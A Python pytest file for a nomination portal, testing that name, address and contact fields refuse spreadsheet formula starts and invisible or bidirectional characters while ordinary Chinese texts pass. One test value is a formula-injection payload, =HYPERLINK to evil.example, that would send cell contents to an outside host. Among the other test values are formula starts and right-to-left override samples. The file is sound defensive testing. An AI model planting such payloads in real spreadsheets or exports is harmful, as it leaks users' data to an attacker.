"""One-line fields of a nomination (names, places, contacts): no text a spreadsheet takes
as a formula, no invisible characters — refused through the service and the form alike
(the import: tests/nominations/test_excel.py)."""

from __future__ import annotations

import pytest

from nominations import services
from nominations.services import NominationError
from nominations.tables import Nomination
from portal.tables import AuditEntry
from tests.factories import actor_for
from tests.helpers import login
from tests.nominations.conftest import UNIT
from tests.nominations.test_pages import PDF, PHOTO, error_at, form_files, send_form

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'

REFUSED = [
    pytest.param("name", HYPERLINK, "名称不能以“=”开头", id="hyperlink"),
    pytest.param("name", "+1+1", "名称不能以“+”开头", id="plus"),
    pytest.param("township", "-2+3", "所在乡镇（街道）不能以“-”开头", id="minus"),
    pytest.param("address", "@SUM(A1)", "地址不能以“@”开头", id="at"),
    pytest.param("contact_name", "\t=1", "联系人不能以“=”开头", id="tab"),
    pytest.param("name", "\r=1", "名称不能以“=”开头", id="carriage-return"),
    pytest.param("name", "安定区\u202e所法司", "名称含有不可见字符（U+202E）", id="rlo"),
    pytest.param("name", "安定区\u2067中华路司法所", "含有不可见字符（U+2067）", id="isolate"),
    pytest.param("township", "中华路\u200b街道", "含有不可见字符（U+200B）", id="zwsp"),
    pytest.param("summary", "\ufeff" + UNIT["summary"], "含有不可见字符（U+FEFF）", id="bom"),
    pytest.param("contact_name", "王\u200f敏", "联系人含有不可见字符（U+200F）", id="rlm"),
    pytest.param("name", "安定区\x07司法所", "含有不可见字符（U+0007）", id="control"),
]


@pytest.mark.parametrize(("key", "value", "message"), REFUSED)
async def test_the_service_refuses_formula_starts_and_invisible_characters(
    clerks, category, key, value, message
) -> None:
    clerk = clerks["anding"]
    with pytest.raises(NominationError) as raised:
        await services.create_draft(actor_for(clerk), clerk, category, {**UNIT, key: value})
    assert message in raised.value.errors[key]
    assert await Nomination.count().run() == 0


@pytest.mark.parametrize(
    "changes",
    [
        {"name": "阿依古丽·买买提-调解工作室"},  # a dash or a dot inside, not in front
        {"summary": "“枫桥经验”+“互联网”：纠纷化解率 98%（全年 312 件）。"},
        {"deeds": "- 网格化排查\n- 诉调对接"},  # Markdown lists start with “-”
    ],
)
async def test_ordinary_names_and_texts_are_kept(clerks, category, changes) -> None:
    clerk = clerks["anding"]
    draft = await services.create_draft(actor_for(clerk), clerk, category, {**UNIT, **changes})
    stored = await Nomination.objects().where(Nomination.id == draft.id).first().run()
    for key, value in changes.items():
        assert getattr(stored, key) == value


@pytest.mark.parametrize(
    ("key", "value", "message"),
    [
        pytest.param("name", HYPERLINK, "名称不能以“=”开头", id="hyperlink"),
        pytest.param("name", "安定区\u202e所法司", "含有不可见字符（U+202E）", id="rlo"),
    ],
)
async def test_the_form_shows_the_refusal_at_its_field_and_stores_nothing(
    client, clerks, category, key, value, message
) -> None:
    await login(client, "clerk")
    before = await AuditEntry.count().run()
    response = await send_form(
        client,
        "/staff/nominations/new",
        {**UNIT, key: value, "category": str(category.id), "action": "save"},
        form_files(PHOTO, [PDF]),
    )
    assert response.status_code == 400, response.text[:500]
    assert message in (error_at(response.text, key) or ""), response.text
    assert await Nomination.count().run() == 0
    assert await AuditEntry.count().run() == before
